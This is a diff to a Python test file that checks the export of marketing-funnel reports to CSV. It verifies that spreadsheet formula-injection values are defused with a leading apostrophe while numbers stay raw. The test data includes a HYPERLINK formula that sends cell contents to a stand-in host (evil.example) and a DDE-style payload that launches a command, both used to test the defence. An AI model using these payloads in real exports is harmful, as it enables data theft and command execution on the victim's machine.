@@ -3,6 +3,8 @@ and range each report needs, giving what the pure report gives over the same fac
 
 from __future__ import annotations
 
+import csv
+import io
 from collections.abc import AsyncIterator, Iterable
 from datetime import UTC, date, datetime, timedelta
 
@@ -10,8 +12,8 @@ import pytest
 
 from nurture.config.settings import Settings
 from nurture.domain.factlog import Fact
-from nurture.domain.reports import REPORT_NAMES, REPORTS
-from nurture.domain.reports.common import by_lead
+from nurture.domain.reports import REPORT_NAMES, REPORTS, Column, ReportResult, ReportTable
+from nurture.domain.reports.common import Cell, by_lead
 from nurture.domain.reports.funnel import funnel
 from nurture.domain.reports.velocity import velocity
 from nurture.services.reports import (
@@ -19,11 +21,12 @@ from nurture.services.reports import (
     UnknownReport,
     load_report_config,
     parse_query,
+    report_csv,
     run_report,
 )
 from nurture.testing import MemoryFactStore
 from tests.helpers import ROOT
-from tests.unit.reports import test_funnel, test_velocity
+from tests.unit.reports import factbook, test_funnel, test_velocity
 
 
 class SpyStore(MemoryFactStore):
@@ -154,3 +157,47 @@ class TestByLead:
         leads = list(by_lead(log))
         assert [{f.lead_id for f in lead} for lead in leads] == [{"a"}, {"b"}]
         assert sum(map(len, leads)) == len(log) - 1
+
+
+HOSTILE_CAMPAIGNS = (
+    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\tTAB",
+    "\rCR",
+)
+
+
+class NumbersReport(ReportResult):
+    """A report of one row mixing text and figures, negative ones included."""
+
+    report: str = "numbers"
+
+    def tables(self) -> tuple[ReportTable, ...]:
+        columns = (Column(key="name", label="Name", kind="text"), Column(key="diff", label="D"))
+        rows: tuple[tuple[Cell, ...], ...] = (("-", -0.25), ("ok", -3))
+        return (ReportTable(name="n", title="N", columns=columns, rows=rows),)
+
+
+class TestCsvFormulas:
+    """A text cell a spreadsheet would run as a formula is defused with a leading
+    apostrophe; figures, negative ones included, stay raw."""
+
+    @pytest.mark.parametrize("campaign", HOSTILE_CAMPAIGNS)
+    def test_hostile_campaign_defused(self, campaign: str) -> None:
+        log = [
+            factbook.fact("l1", "lead_created", factbook.at(1), utm_campaign=campaign),
+            factbook.fact("l2", "lead_created", factbook.at(2), utm_campaign="spring"),
+        ]
+        query = parse_query("funnel", "2026-11-01", "2026-12-01", "utm_campaign")
+        result = funnel(factbook.ordered(log), query)
+        rows = list(csv.reader(io.StringIO(report_csv(result), newline="")))
+        groups = {row[0] for row in rows[1:]}
+        assert groups == {"(all)", "spring", f"'{campaign}"}
+        hostile_new = next(r for r in rows if r[0] == f"'{campaign}" and r[1] == "new")
+        assert hostile_new[2:] == ["1", "", "1.0"]
+
+    def test_figures_stay_raw(self) -> None:
+        result = NumbersReport(since=None, until=None)
+        assert report_csv(result).splitlines() == ["name,diff", "'-,-0.25", "ok,-3"]
